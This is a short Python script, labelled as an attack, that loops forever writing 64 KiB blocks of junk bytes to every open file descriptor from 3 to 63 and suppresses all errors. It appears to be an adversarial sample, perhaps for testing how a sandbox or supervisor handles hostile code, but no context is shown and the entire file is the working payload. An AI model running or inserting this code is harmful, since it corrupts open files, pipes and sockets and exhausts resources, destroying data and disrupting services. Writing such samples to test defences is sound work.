# attack: writes rubbish to every descriptor without end
# ruff: noqa
import os

block = b"\xff" * 65536
while True:
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            os.write(fd, block)
        except OSError:
            pass
